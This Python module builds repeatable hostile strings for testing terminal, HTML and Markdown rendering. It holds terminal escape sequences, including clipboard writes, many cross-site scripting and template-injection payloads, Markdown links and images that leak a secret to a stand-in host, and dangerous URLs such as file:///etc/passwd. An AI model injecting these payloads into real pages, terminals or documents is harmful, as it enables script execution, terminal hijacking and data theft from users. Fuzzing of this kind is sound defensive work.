"""Hostile texts, the same on every run: what tries to act on a terminal, on a page and on Markdown."""

import random
import unicodedata
from collections.abc import Iterator
from itertools import product

_PIECES = [
    *(chr(c) for c in (*range(0x20), *range(0x7F, 0xA0))),  # C0, DEL, C1
    *("\x1b[31m", "\x1b[2J", "\x1b[?1049h", "\x1b[6n", "\x9b2K", "\x1b[1;1H", "\x1b[999999999A", "\x1bc", "\x1b(0"),
    *("\x1b]0;title\x07", "\x1b]8;;https://evil.test\x1b\\", "\x1b]52;c;ZXZpbA==\x07", "\x9d52;c;?\x9c", "\x1b]8;;"),
    *("\x1bP+q544e\x1b\\", "\x90x\x9c", "\x1b_G\x1b\\", "\x1b^x\x9c", "\x1bX", "\x1b\x1b[0m", "\x1b[\x1b[31m"),
    *("\u202a", "\u202e", "\u2066", "\u2069", "\u200e", "\u061c", "\u200b", "\u200d", "\ufeff", "\u00ad", "\u2060"),
    *("\U000e0041", "\U000e007f", "\ud800", "\udfff", "\u2028", "\u2029", "\ufff9", "\u180e", "\U0001d173"),
    *("[/]", "[bold red]", "[/bold]", "[link=https://evil.test]x[/link]", "[[", "]]", "[@click=app.bell]", "\\["),
    *("[1]", "\nSources\n[1] Forged", "\rWATCHLIST", "\r\n\n! warning", "▲ +5.50 %", "stale", "https://evil.test/x"),
    *("KSTL", " rose ", "3.5 %", "日本電気", "\u0301" * 20, "📈", "é", "\t", "a" * 90, "{x}", "%s", "\x00"),
]

_SCRIPTS = [
    *("<script>alert(1)</script>", "<ScRiPt src=//evil.test></sCrIpT>", "<scr<script>ipt>alert(1)</script>"),
    *("<img src=x onerror=alert(1)>", "<img/src='https://evil.test/p.gif' width=1>", "<svg/onload=alert(1)>"),
    *("<svg><script>alert(1)</script></svg>", "<math href=javascript:alert(1)>x</math>", "<body onload=alert(1)>"),
    *("<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>1</script>'>", "<object data=//evil.test>"),
    *("<embed src=//evil.test>", "<link rel=stylesheet href=//evil.test>", "<base href=//evil.test/>"),
    *("<meta http-equiv=refresh content='0;url=//evil.test'>", "<style>@import '//evil.test'</style>"),
    *("<form action=//evil.test><input autofocus onfocus=alert(1)>", "<video src=//evil.test onerror=alert(1)>"),
    *("<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>", "<a href=javascript:alert(1)>x</a>"),
    *("<template><script>1</script></template>", "<noscript><img src=x></noscript>", "<plaintext>", "<xmp>"),
    *("<!--><script>1</script>-->", "<![CDATA[<script>1</script>]]>", "<?php 1 ?>", "<textarea><script>1</script>"),
    *("&lt;script&gt;1&lt;/script&gt;", "&#60;script&#62;", "\\u003cscript\\u003e", "＜script＞", "<script\x00>1"),
    *("{{ 7 * 7 }}", "{% import 'os' as os %}", "{{ ''.__class__ }}", "${7*7}", "#{7*7}", "<%= 7*7 %>"),
]
_LINKS = [
    *("[x](https://evil.test/a)", "![x](https://evil.test/i.png)", "[x][1]\n\n[1]: https://evil.test"),
    *("<https://evil.test>", "<a@evil.test>"),
    *("![x][r]\n[r]: https://evil.test/?q=secret", "[x]( javascript:alert(1) )", "[x](data:text/html,1)"),
    "[^1]\n[^1]: x",
    *("https://evil.test", "www.evil.test", "evil.test/x", "mailto:a@evil.test", "a@evil.test", "ftp://evil.test"),
    *("[[x]](https://evil.test)", "[x\\](https://evil.test)", "\\[x](https://evil.test)", "`[x](https://evil.test)`"),
    *("[x](<https://evil.test>)", "[x](//evil.test)", "[1](https://evil.test)", "![[1]](https://evil.test)"),
    *("- [ ] x", "# x", "> x", "| a | b |\n|---|---|", "```\nx", "~~~\nx", "***", "$x$", "@someone", "[x]:https://evil.test"),
]  # fmt: skip
_AROUND = ["{}", 'Shares "> {}', "Shares '/> {}", "</title></style></a>{}", "{} rose 3 %", "[1] {} [2]", "-->{}<!--"]

BAD_URLS = [
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)"),
    "\x01javascript:1",
    *("data:text/html,<script>1</script>", "data:image/svg+xml;base64,PHN2Zz4=", "vbscript:x", "file:///etc/passwd"),
    *("blob:https://evil.test/x", "view-source:https://evil.test", "//evil.test/x", "/relative", "?q", "#x", ""),
    *("https://", "https:///x", "https://user:pw@evil.test/", "http://evil.test\\@good.test/", "http://[::1"),
    *("ftp://evil.test/", "mailto:a@evil.test", "https://a b/", "https://x.test:port/", "jar:https://x.test!/"),
]  # fmt: skip


def titles(n: int, seed: int = 1) -> Iterator[str]:
    """`n` titles of pieces that no terminal should be given."""
    rng = random.Random(seed)
    for _ in range(n):
        yield "".join(rng.choices(_PIECES, k=rng.randint(1, 12)))


def vectors(n: int) -> list[str]:
    """`n` of the script and link vectors, spread evenly over their kinds."""
    every = [around.replace("{}", core) for around, core in product(_AROUND, (*_SCRIPTS, *_LINKS))]
    assert len(every) >= n
    return [every[i * len(every) // n] for i in range(n)]


def controls(text: str) -> set[str]:
    """The characters of `text` that act or hide instead of being seen, line feeds aside."""
    return {c for c in text if c != "\n" and unicodedata.category(c) in {"Cc", "Cf", "Cs"}}
